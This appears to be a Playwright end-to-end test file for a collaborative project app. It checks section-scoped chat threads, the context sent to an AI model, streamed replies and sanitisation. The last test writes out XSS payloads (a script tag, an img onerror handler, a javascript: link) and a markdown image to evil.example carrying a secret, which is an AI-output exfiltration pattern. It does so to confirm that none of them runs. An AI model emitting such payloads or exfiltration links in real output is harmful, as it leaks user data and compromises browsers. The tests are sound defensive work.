import * as Y from 'yjs';
import { addDoc, docBody } from '#lib/project/doc.ts';
import { addMilestone } from '#lib/project/milestone.ts';
import { createProject } from '#lib/project/project.ts';
import type { Page } from 'playwright/test';
import { SyncPeer } from '../helpers/sync-peer.ts';
import { expect, type Visitor } from './fixtures.ts';
import { send, test, thread } from './thread-page.ts';

/** Words that stand in one place each, and nowhere else. */
const CANARY = { project: 'cobalt', kickOff: 'amaranth', interviews: 'basalt' };

async function fillProject(url: string, { person }: Visitor, projectId: string) {
	const peer = new SyncPeer({ url, person, name: projectId });
	const by = person.id;
	createProject(peer.doc, { title: 'Northwind onboarding', by });
	const kickOff = addMilestone(peer.doc, { title: 'Kick-off', by });
	const interviews = addMilestone(peer.doc, { title: 'Interviews', by });
	const write = (title: string, milestoneId: string | null, word: string) => {
		const text = new Y.XmlElement('paragraph');
		text.insert(0, [new Y.XmlText(`The word here is ${word}.`)]);
		docBody(peer.doc, addDoc(peer.doc, { title, milestoneId, by }))?.insert(0, [text]);
	};
	write('Agreement', null, CANARY.project);
	write('Session notes', kickOff, CANARY.kickOff);
	write('Questions', interviews, CANARY.interviews);
	await peer.untilSaved();
	peer.destroy();
	return { kickOff, interviews };
}

/** Grows with each stream of a reply that the page opens. */
function countStreams(page: Page): string[] {
	const streams: string[] = [];
	page.on('request', (request) => {
		if (request.url().includes('/stream?')) streams.push(request.url());
	});
	return streams;
}

test('three members share a section’s thread and one streaming answer, and the project’s thread has none of it', async ({
	app,
	model,
	visitor,
	project
}) => {
	const asked = model.calls.length;
	const [ana, ben, mira] = [await visitor('Ana'), await visitor('Ben'), await visitor('Mira')];
	const people = [ana, ben, mira];
	const projectId = await project(people.map(({ person }) => ({ person, role: 'editor' })));
	const { kickOff, interviews } = await fillProject(app.url, ana, projectId);
	const section = (id: string) => `/projects/${projectId}/sections/${id}`;
	await Promise.all(people.map(({ page }) => page.goto(section(kickOff))));

	await send(ana.page, 'Jonas cannot make Thursday.');
	await send(ben.page, 'Friday at ten then.');
	for (const { page } of people) {
		await expect(thread(page).getByText('Jonas cannot make Thursday.')).toBeVisible();
		await expect(thread(page).getByText('Friday at ten then.')).toBeVisible();
	}
	// People talk without the model.
	expect(model.calls).toHaveLength(asked);

	const streams = people.map(({ page }) => countStreams(page));
	await send(mira.page, 'Who speaks **first** on Friday?', { ask: true });
	const call = await model.nextCall();
	call.say('Not settled. ');
	for (const { page } of people) await expect(thread(page).getByText('Not settled.')).toBeVisible();
	call.say('Petra could open, ');
	for (const { page } of people) await expect(thread(page).getByText('Petra could open,')).toBeVisible();
	call.say('then Jonas.');
	call.end();
	for (const { page } of people) {
		await expect(
			thread(page).getByText('Not settled. Petra could open, then Jonas.', { exact: true })
		).toBeVisible();
		await expect(thread(page).getByRole('button', { name: 'Stop' })).toHaveCount(0);
		await expect(thread(page).locator('strong', { hasText: 'first' })).toBeVisible();
	}

	// Whoever asked read the reply in the answer to the question, the others each in one stream.
	expect(streams.map((requests) => requests.length)).toEqual([1, 1, 0]);

	// What the model was sent: this section and the project, by name who asked, and nothing of the other section.
	expect(model.calls).toHaveLength(asked + 1);
	expect(call.system).toContain('Section: Kick-off');
	expect(call.prompt).toContain(CANARY.kickOff);
	expect(call.prompt).toContain(CANARY.project);
	expect(call.prompt).not.toContain(CANARY.interviews);
	expect(call.prompt).toContain('Jonas cannot make Thursday.');
	expect(call.prompt).toContain('Mira');

	await thread(ben.page).getByRole('link', { name: 'Project' }).click();
	await expect(thread(ben.page).getByText('No messages yet')).toBeVisible();
	await expect(thread(ben.page).getByText('Jonas cannot make Thursday.')).toHaveCount(0);

	await ben.page.goto(section(interviews));
	await send(ben.page, 'What do we ask the shift leads?', { ask: true });
	const other = await model.nextCall();
	expect(other.prompt).toContain(CANARY.interviews);
	expect(other.prompt).not.toContain(CANARY.kickOff);
	expect(other.prompt).not.toContain('Jonas cannot make Thursday.');
	other.end();
});

test('what the assistant said is still there, word for word, after a reload', async ({
	app,
	model,
	visitor,
	project
}) => {
	const asked = model.calls.length;
	const ana = await visitor('Ana');
	const projectId = await project([ana]);
	const { kickOff } = await fillProject(app.url, ana, projectId);
	await ana.page.goto(`/projects/${projectId}/sections/${kickOff}`);
	await send(ana.page, 'Begin.', { ask: true });
	const call = await model.nextCall();
	call.say('First half, ');
	await expect(thread(ana.page).getByText('First half,')).toBeVisible();
	await ana.page.reload();
	await expect(thread(ana.page).getByText('First half,')).toBeVisible();
	call.say('second half.');
	call.end();
	await expect(thread(ana.page).getByText('First half, second half.', { exact: true })).toBeVisible();
	expect(model.calls).toHaveLength(asked + 1);
});

test('script in a message, and a picture from elsewhere in an answer, do nothing', async ({
	app,
	model,
	visitor,
	project
}) => {
	const ana = await visitor('Ana');
	const projectId = await project([ana]);
	const { kickOff } = await fillProject(app.url, ana, projectId);
	const foreign: string[] = [];
	ana.page.on('request', (request) => {
		if (!request.url().startsWith(app.url)) foreign.push(request.url());
	});
	await ana.page.goto(`/projects/${projectId}/sections/${kickOff}`);
	await send(ana.page, '<script>window.hurt = 1</script><img src=x onerror="window.hurt = 1"> said Ana', {
		ask: true
	});
	const call = await model.nextCall();
	call.say('![track](https://evil.example/p.png?secret=1) [press](javascript:window.hurt=1) done.');
	call.end();
	await expect(thread(ana.page).getByText('done.')).toBeVisible();
	await expect(thread(ana.page).getByText('said Ana')).toBeVisible();
	expect(await thread(ana.page).locator('img[src], a[href^="javascript:"], script').count()).toBe(0);
	expect(await ana.page.evaluate(() => 'hurt' in window)).toBe(false);
	expect(foreign).toEqual([]);
});
